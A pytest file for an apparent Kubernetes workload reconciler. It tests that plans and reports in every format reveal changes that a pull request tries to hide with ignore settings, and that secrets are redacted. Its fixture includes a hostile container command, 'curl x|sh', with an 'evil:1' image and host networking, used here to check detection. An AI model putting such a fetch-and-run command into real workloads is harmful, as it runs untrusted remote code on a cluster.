"""What a plan shows is what will be sent, held against what runs."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import example, given

from reconciler.core.diff.diff import ABSENT, FieldChange, Origin, find_changes, undo, without
from reconciler.core.diff.equality import is_equal
from reconciler.core.lifecycle import (
    Lifecycle,
    OnMissing,
)
from reconciler.core.model import (
    ChangeRecord,
    Desired,
    LastSeen,
    Live,
    Missing,
    OpenChange,
    Own,
    Purpose,
    Recorded,
    SentRev,
)
from reconciler.core.planning.actions import Create, Hold, Record, Replace
from reconciler.core.planning.case import OnDrift
from reconciler.core.planning.plan import Plan
from reconciler.engine.records import follow_spec
from reconciler.report.html import plan_page
from reconciler.report.machine.documents import plan_document, to_text
from reconciler.report.markdown.markdown import markdown_plan
from reconciler.report.text.text import Text
from tests.support.factories import (
    REDACTOR,
    make_desired,
    make_manifest,
    make_recorded,
    make_remote,
    plan_for,
)
from tests.support.rows import from_row, to_row
from tests.support.strategies import edits

POD = "/manifest/spec/template/spec"
IMAGE = f"{POD}/containers/0/image"
ARGS = f"{POD}/containers/0/args"
COMMAND = f"{POD}/containers/0/command"
NETWORK = f"{POD}/hostNetwork"
REPLICAS = "/manifest/spec/replicas"
PATTERNS = (IMAGE, COMMAND, NETWORK)
NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)


def pod_with(container: Mapping[str, Any], pod: Mapping[str, Any], **lifecycle: Any) -> Desired:
    """A spec whose container and pod have more than usual."""
    manifest = make_manifest()
    part = manifest["spec"]["template"]["spec"]
    part |= pod
    part["containers"][0] |= container
    return make_desired(manifest=manifest, **lifecycle)


BEFORE = pod_with({"command": ["train"], "args": ["--epochs=1"]}, {})
ROW = make_recorded(BEFORE)
ATTACK = pod_with(
    {"image": "evil:1", "command": ["sh", "-c", "curl x|sh"], "args": ["--epochs=2"]},
    {"hostNetwork": True},
    ignore_changes=PATTERNS,
)


def plan_attack(**options: Any) -> Plan:
    """What a pull request leads to that ignores the fields that it changes."""
    live = {} if options.get("refreshed") is False else {ROW.id or "": make_remote(ROW)}
    return plan_for([ATTACK], [ROW], live, **options)


def told(changes: tuple[FieldChange, ...]) -> list[tuple[str, Any, Any, bool]]:
    """Where, what, and whether it is ignored."""
    return [(c.pointer, c.before, c.after, c.ignored) for c in changes]


def test_what_is_ignored_is_kept_and_shown() -> None:
    """Three fields are ignored by the very pull request that changes them: what runs is sent."""
    [action] = plan_attack().actions
    assert isinstance(action, Replace)
    assert told(action.changes) == [
        (f"{ARGS}/0", "--epochs=1", "--epochs=2", False),
        (f"{COMMAND}/0", "train", "sh", True),
        (f"{COMMAND}/1", ABSENT, "-c", True),
        (f"{COMMAND}/2", ABSENT, "curl x|sh", True),
        (IMAGE, "nvcr.io/llm:1", "evil:1", True),
        (NETWORK, ABSENT, True, True),
        ("/lifecycle/ignoreChanges", ABSENT, [*PATTERNS], False),
    ]
    sent = pod_with({"command": ["train"], "args": ["--epochs=2"]}, {})
    assert action.desired.spec == action.document == sent.spec
    assert action.kept == BEFORE.spec


def test_a_value_that_is_kept_is_somebodys_where_its_author_has_not_changed_it() -> None:
    """An ignored field that drifted is none of the spec's changes, though a replace shows it."""
    manifest = make_manifest()
    manifest["spec"]["template"]["spec"]["containers"][0] |= {"image": "somebody/else:1"}
    before = make_desired(ignore_changes=PATTERNS)
    after = pod_with({"args": ["--epochs=2"]}, {}, ignore_changes=PATTERNS)
    row = make_recorded(before)
    live = {row.id or "": make_remote(row, raw_manifest=manifest)}
    [action] = plan_for([after], [row], live).actions
    assert [(c.pointer, c.origin, c.ignored) for c in action.changes] == [
        (ARGS, Origin.SPEC, False),
        (IMAGE, Origin.REMOTE, True),
    ]


def test_without_a_look_at_the_server_the_spec_is_sent_and_shown() -> None:
    """Nothing is marked as kept that could not be read."""
    [action] = plan_attack(refreshed=False).actions
    assert isinstance(action, Replace)
    assert action.desired == ATTACK
    assert {IMAGE, NETWORK, f"{COMMAND}/2"} <= {change.pointer for change in action.changes}
    assert not any(change.ignored for change in action.changes)


VIEWS: list[Callable[[Plan], str]] = [
    lambda plan: Text().plan(plan),
    lambda plan: markdown_plan(plan, ()),
    lambda plan: plan_page(plan, (), created_at=NOW),
    lambda plan: to_text(plan_document(plan, NOW)),
]


@pytest.mark.parametrize("view", VIEWS, ids=["text", "markdown", "html", "json"])
@pytest.mark.parametrize("refreshed", [True, False])
def test_every_view_shows_what_is_approved(view: Callable[[Plan], str], refreshed: bool) -> None:
    """Also what is ignored, what changes of the settings, and a word in the middle of a line."""
    shown = view(plan_attack(refreshed=refreshed))
    for word in ("evil:1", "curl x|sh", "hostNetwork", "--epochs=2", "ignoreChanges"):
        assert word in shown
    assert ("ignored" in shown.replace("ignoreChanges", "")) is refreshed
    start, end = "true; " * 60, " # tail" * 40
    long = pod_with({"args": [f"{start}ls{end}"]}, {})
    changed = plan_for([pod_with({"args": [f"{start}rm{end}"]}, {})], [make_recorded(long)])
    assert "true; rm # tail" in view(changed)


@pytest.mark.parametrize("view", VIEWS, ids=["text", "markdown", "html", "json"])
def test_a_new_workload_shows_what_it_runs(view: Callable[[Plan], str]) -> None:
    """Its images, its commands and its access to the host, in every format."""
    shown = view(plan_for([dataclasses.replace(ATTACK, lifecycle=Lifecycle())], []))
    for word in ("evil:1", "curl x|sh", "hostNetwork", "--epochs=2"):
        assert word in shown


SECRET = "/manifest/spec/template/spec/containers/0/env"


def test_a_secret_that_runs_cannot_be_kept() -> None:
    """Nobody here knows it: the spec's value is sent, shown as a change, and the plan says so."""

    def with_token(value: str, replicas: int = 1, **lifecycle: Any) -> Desired:
        desired = pod_with({"env": [{"name": "HF_TOKEN", "value": value}]}, {}, **lifecycle)
        spec = {**desired.manifest["spec"], "replicas": replicas}
        return dataclasses.replace(desired, manifest={**desired.manifest, "spec": spec})

    row = make_recorded(with_token("abcdefgh", ignore_changes=(SECRET,)))
    remote = make_remote(row, with_token("stuvwxyz"))
    wanted = with_token("abcdefgh", 2, ignore_changes=(SECRET,))
    [action] = plan_for([wanted], [row], {row.id or "": remote}).actions
    assert isinstance(action, Replace)
    assert action.desired == wanted
    assert action.detail == (
        f"{REPLICAS} changed; API 2.23 can only delete and create; "
        f"{SECRET}/0/value runs with a secret that is not kept, so the spec's is sent"
    )
    assert [(c.pointer, c.ignored) for c in action.changes] == [
        (REPLICAS, False),
        (f"{SECRET}/0/value", False),
    ]
    # An equal one is no difference, and what stands beside it is kept.
    [same] = plan_for([wanted], [row], {row.id or "": make_remote(row)}).actions
    assert isinstance(same, Replace)
    assert "secret" not in same.detail


def test_a_replace_keeps_replicas_in_its_count_of_gpus() -> None:
    """What is sent is counted, not what the spec says of an ignored field."""
    desired = make_desired(ignore_changes=(REPLICAS,))
    row = make_recorded(desired)
    remote = make_remote(row, raw_manifest=make_manifest(replicas=4))
    changed = dataclasses.replace(desired, manifest=make_manifest(image="b"))
    [action] = plan_for([changed], [row], {row.id or "": remote}).actions
    assert isinstance(action, Replace)
    assert action.desired.manifest["spec"]["replicas"] == 4
    # Nor is that growth: what is given back before it is what ran.
    assert (action.gpus.before, action.gpus.after) == (4.0, 4.0)


def test_a_kept_secret_is_spoken_of_again_after_a_kill() -> None:
    """Also where no other ignored field could be kept, and once the workload is gone."""

    def with_token(value: str, image: str, **lifecycle: Any) -> Desired:
        env = [{"name": "HF_TOKEN", "value": value}]
        return pod_with({"env": env, "image": image}, {}, **lifecycle)

    row = make_recorded(with_token("abcdefgh", "a", ignore_changes=(SECRET,)))
    remote = make_remote(row, with_token("stuvwxyz", "a"))
    wanted = with_token("abcdefgh", "b", ignore_changes=(SECRET,))
    [planned] = plan_for([wanted], [row], {row.id or "": remote}).actions
    assert isinstance(planned, Replace)
    begun = dataclasses.replace(
        row, own=Own.DELETING, purpose=Purpose.REPLACE, kept=planned.kept, undone=planned.undone
    )
    down = dataclasses.replace(
        begun, own=Own.LATE_CREATE_POSSIBLE, former_id=row.id, seen=LastSeen.DELETED
    )
    note = f"{SECRET}/0/value runs with a secret that is not kept, so the spec's is sent"
    for left in (begun, down):
        [action] = plan_for([wanted], [left]).actions
        assert isinstance(action, Replace | Create)
        assert action.desired == wanted
        assert action.detail.endswith(f"; {note}")


def test_a_field_that_the_server_has_already_is_no_change() -> None:
    """The namespace written down where the platform has put it; another one is a change."""

    def named(namespace: str) -> Desired:
        manifest = make_manifest()
        manifest["metadata"]["namespace"] = namespace
        return make_desired(manifest=manifest)

    row = dataclasses.replace(make_recorded(), echo=named("runai-a").spec)
    live = {row.id or "": make_remote(row, raw_manifest=named("runai-a").manifest)}
    [same] = plan_for([named("runai-a")], [row], live).actions
    [other] = plan_for([named("runai-b")], [row], live).actions
    assert isinstance(same, Record)
    assert same.follows
    assert isinstance(other, Replace)
    assert told(other.changes) == [("/manifest/metadata/namespace", "runai-a", "runai-b", False)]


def test_a_spec_that_follows_drift_is_not_undone() -> None:
    """With --on-drift replace as well: both sides agree."""
    row = make_recorded()
    scaled = make_desired(manifest=make_manifest(replicas=5))
    live = {row.id or "": make_remote(row, scaled)}
    [action] = plan_for([scaled], [row], live, on_drift=OnDrift.REPLACE).actions
    assert isinstance(action, Record)


@pytest.mark.parametrize("policy", [None, OnMissing.HOLD])
def test_another_spec_is_another_job(policy: OnMissing | None) -> None:
    """Ignored fields and other spellings make no other job."""
    job = make_desired(manifest=make_manifest("Job"), on_missing=policy)
    row = make_recorded(job)

    def decide(desired: Desired) -> Any:
        [action] = plan_for([desired], [row], {row.id or "": Missing()}).actions
        return action

    changed = dataclasses.replace(job, manifest=make_manifest("Job", image="b"))
    ignoring = dataclasses.replace(
        changed, lifecycle=Lifecycle(on_missing=policy, ignore_changes=(IMAGE,))
    )
    assert isinstance(decide(job), Hold)
    assert isinstance(decide(ignoring), Hold)
    created = decide(changed)
    assert isinstance(created, Create)
    assert told(created.changes) == [(IMAGE, "nvcr.io/llm:1", "b", False)]
    assert created.detail == f"{IMAGE} changed, so it is another job than the one that ended"


def test_what_others_made_of_it_is_not_laid_on_the_author() -> None:
    """A replace overwrites both, and says whose each was."""
    row = make_recorded()
    remote = make_remote(row, raw_manifest=make_manifest(image="theirs"))
    [action] = plan_for(
        [make_desired(manifest=make_manifest(replicas=2))], [row], {row.id or "": remote}
    ).actions
    assert [(c.pointer, c.origin, c.forces_replace) for c in action.changes] == [
        (REPLICAS, Origin.SPEC, True),
        (IMAGE, Origin.REMOTE, False),
    ]


@given(edits())
@example(([{"name": "b", "x": None}], [{"name": "a"}, {"name": "b"}]))
@example(([{"name": "a"}, {"name": "b", "x": [{"name": "a"}]}], [{"name": "b", "x": []}]))
def test_changes_can_be_undone(pair: tuple[Any, Any]) -> None:
    """From what they led to, back to what was before them."""
    before, after = pair
    undone = undo(after, find_changes(before, after))
    assert find_changes(undone, before) == []


def test_a_part_can_be_left_out() -> None:
    """Below `*` of every item and entry; what is not there is left out already."""
    document = {"a": [{"b": 1, "c": 2}, {"b": 3}], "d": {"e": 4}}
    assert without(document, "/a/*/b") == {"a": [{"c": 2}, {}], "d": {"e": 4}}
    assert without(document, "/d") == {"a": [{"b": 1, "c": 2}, {"b": 3}]}
    assert without(document, "/x/y") == document


def test_a_state_remembers_what_a_replace_needs() -> None:
    """In a column of its own, which is empty where there is nothing to remember."""
    row = dataclasses.replace(ROW, kept=BEFORE.spec, undone=(IMAGE,))
    assert from_row(to_row(row)) == row
    assert to_row(ROW)["memory"] is None


def test_a_state_remembers_what_an_update_needs() -> None:
    """In the same row, so that one commit makes all of it durable."""
    under_way = OpenChange(
        rev="r2",
        base="r1",
        body_digest="sha256:b",
        digest="sha256:d",
        spec=BEFORE.spec,
        body={"manifest": {}},
        attempts=2,
        first_sent_at="2026-11-20T09:00:00+00:00",
        last_sent_at="2026-11-20T09:00:01+00:00",
        ambiguous=True,
    )
    late = SentRev(rev="r0", last_sent_at="2026-11-20T08:59:00+00:00")
    change = ChangeRecord(confirmed="r1", open=under_way, superseded=(late,))
    row = dataclasses.replace(ROW, change=change, undone=(IMAGE,))
    assert from_row(to_row(row)) == row
    assert change.revs == ("r1", "r2", "r0")


POLICY = {"imagePullPolicy": "Always"}
TOKEN = {"env": [{"name": "HF_TOKEN", "value": "hf_abcdefghijklmnopqrstuvwxyz"}]}


def filled(before: Desired, dressed: Desired, row: Recorded | None = None) -> dict[str, Live]:
    """What a server says that was sent one spec and runs it in the dress of another."""
    row = row or make_recorded(before)
    return {
        row.id or "": make_remote(
            row, before, workload_manifest=make_remote(row, dressed).raw_manifest
        )
    }


@pytest.mark.parametrize(
    ("before", "dressed", "kind"),
    [
        (pod_with({}, {}), pod_with(POLICY, {"schedulerName": "x"}), Record),
        (pod_with({}, {"schedulerName": ""}), pod_with({}, {"schedulerName": "x"}), Record),
        (pod_with({}, {"schedulerName": None}), pod_with({}, {"schedulerName": "x"}), Record),
        (pod_with({}, {}), pod_with({}, {"tolerations": [{"key": "x"}]}), Record),
        (
            pod_with({}, {"tolerations": [{"key": "x"}]}),
            pod_with({}, {"tolerations": [{"key": "y"}, {"key": "x"}]}),
            Record,
        ),
        (pod_with({}, {}), pod_with(TOKEN, {}), Record),
        (pod_with({}, {"schedulerName": "w"}), pod_with({}, {"schedulerName": "x"}), Replace),
        (pod_with({}, {"hostNetwork": False}), pod_with({}, {"hostNetwork": True}), Replace),
        (pod_with({"args": ["x"]}, {}), pod_with({"args": ["x", "y"]}, {}), Replace),
        (pod_with({}, {}), pod_with({"image": "x"}, {}), Replace),
    ],
)
def test_a_spec_may_follow_what_the_submitted_manifest_leaves_open(
    before: Desired, dressed: Desired, kind: type
) -> None:
    """Whoever submitted a value himself has decided, and the platform's other one is no answer."""
    row, live = make_recorded(before), filled(before, dressed)
    [action] = plan_for([dressed], [row], live).actions
    assert type(action) is kind
    if isinstance(action, Record):
        assert is_equal(row.echo, action.echo)
        followed = follow_spec(row, dressed, action.echo, REDACTOR)
        plan = plan_for([dressed], [followed], live)
        assert (plan.changes, plan.drift) == ((), ())


def test_what_was_filled_in_otherwise_is_replaced_and_named() -> None:
    """The plan shows what runs and what will be sent, each without its secrets."""
    other = {"env": [{"name": "HF_TOKEN", "value": "hf_zyxwvutsrqponmlkjihgfedcba"}]}
    live = filled(pod_with({}, {}), pod_with(TOKEN, {"schedulerName": "x"}))
    wanted = pod_with(other, {"schedulerName": "y"})
    plan = plan_for([wanted], [make_recorded(pod_with({}, {}))], live)
    [action] = plan.actions
    assert isinstance(action, Replace)
    assert [change.pointer for change in action.changes] == [
        f"{POD}/containers/0/env/0/value",
        f"{POD}/schedulerName",
    ]
    assert told(action.changes)[1][1:3] == ("x", "y")
    assert "hf_" not in to_text(plan_document(plan, NOW))


def test_the_first_declaration_of_a_found_workload_may_name_what_was_filled_in() -> None:
    """Whoever writes down what kubectl shows of an adopted workload does not end it."""
    before, dressed = pod_with({}, {}), pod_with({}, {"schedulerName": "x"})
    row = make_recorded(before, digest="")
    [action] = plan_for([dressed], [row], filled(before, dressed, row)).actions
    assert isinstance(action, Record)
